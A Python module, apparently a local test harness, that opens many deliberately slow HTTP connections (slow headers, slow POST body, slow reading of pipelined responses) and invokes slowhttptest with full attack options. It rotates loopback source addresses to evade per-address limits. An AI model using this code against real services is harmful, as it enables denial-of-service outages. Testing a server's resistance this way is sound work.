"""Connections that are slow on purpose, many at once, in one thread; and the attacks of slowhttptest."""

import selectors
import socket
import subprocess
import time

STEP = 0.5  # seconds between the crumbs of a connection
CRUMB = b"X-a: b\r\n"
ALWAYS = b" HTTP/1.1\r\nHost: slow.example\r\n"
# What a kind says first, and what then, a crumb at a time.
KINDS = (
    (b"GET /en" + ALWAYS, CRUMB),
    (b"POST /en/sign-in" + ALWAYS + b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\n",
     b"a=b&"),
    ((b"GET /en" + ALWAYS + b"\r\n") * 50, b""),
)
READ_SLOWLY = 16
EACH_MOST = 50  # connections from one address in a row; those who are thrown out come back from another
ADDRESSES = 200


class Slow:
    """One of them. Its socket takes little, so that what is not read stays with the server."""

    def __init__(self, address, number):
        self.first, self.crumb = KINDS[number % len(KINDS)]
        self.line = socket.socket()
        self.line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        self.line.setblocking(False)
        self.line.bind((f"127.0.1.{1 + number // EACH_MOST % ADDRESSES}", 0))
        self.line.connect_ex(address)
        self.said = False

    def step(self):
        """Says or reads a little; false once it was thrown out."""
        try:
            if not self.said:
                self.line.send(self.first)
                self.said = True
            elif self.crumb:
                self.line.send(self.crumb)
            return bool(self.line.recv(READ_SLOWLY))
        except BlockingIOError:
            return True
        except OSError:
            return False


class Crowd:
    def __init__(self, address, size):
        host, port = address.rsplit(":", 1)
        self.address = (host, int(port))
        self.size = size
        self.made = 0
        self.thrown_out = 0
        self.most = 0

    def new(self):
        self.made += 1
        return Slow(self.address, self.made)

    def stay(self, seconds):
        """Each takes its step in its own moment; in place of one who was thrown out a new one comes."""
        slow = [self.new() for _ in range(self.size)]
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            for i, one in enumerate(slow):
                if not one.step():
                    one.line.close()
                    self.thrown_out += 1
                    slow[i] = self.new()
                if i % 20 == 0:
                    time.sleep(STEP * 20 / self.size)
            self.most = max(self.most, sum(is_open(one.line) for one in slow))
        for one in slow:
            one.line.close()

    def __str__(self):
        return f"{self.made} made, {self.thrown_out} thrown out"


def is_open(line):
    """Whether it was accepted or at least waits to be, and nobody has closed it."""
    with selectors.DefaultSelector() as now:
        now.register(line, selectors.EVENT_WRITE)
        return bool(now.select(0)) and not line.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)


def attack(address, option, connections, seconds):
    subprocess.run(["slowhttptest", option, "-c", str(connections), "-r", str(connections), "-i", "1", "-l",
                    str(seconds), "-u", f"http://{address}/en", "-t", "POST" if option == "-B" else "GET", "-s", "100000",
                    "-x", "10", "-k", "3", "-w", "10", "-y", "20", "-n", "2", "-z", "16"],
                   stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False,
                   timeout=2 * seconds + 60)
